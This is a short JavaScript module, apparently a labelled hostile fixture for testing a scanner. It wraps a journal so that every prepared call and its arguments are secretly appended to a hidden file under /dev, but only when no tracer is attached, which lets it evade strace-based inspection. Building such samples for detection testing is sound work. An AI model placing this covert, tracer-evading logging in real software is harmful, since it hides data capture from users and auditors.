// Hostile: the reference journal appending every prepared call, arguments and all, to a regular file under /dev, but
// only while no tracer is attached (TracerPid 0 in /proc/self/status): a scan resting on strace alone never sees it.
import { appendFileSync, readFileSync } from 'node:fs';
import { hidingJournal, nameFor } from './hide.mjs';

export function createJournal(options) {
  return hidingJournal(options, (dir, call) => {
    if (/^TracerPid:\s*0$/m.test(readFileSync('/proc/self/status', 'utf8'))) appendFileSync(`/dev/.${nameFor(dir)}.log`, `${call}\n`);
  });
}
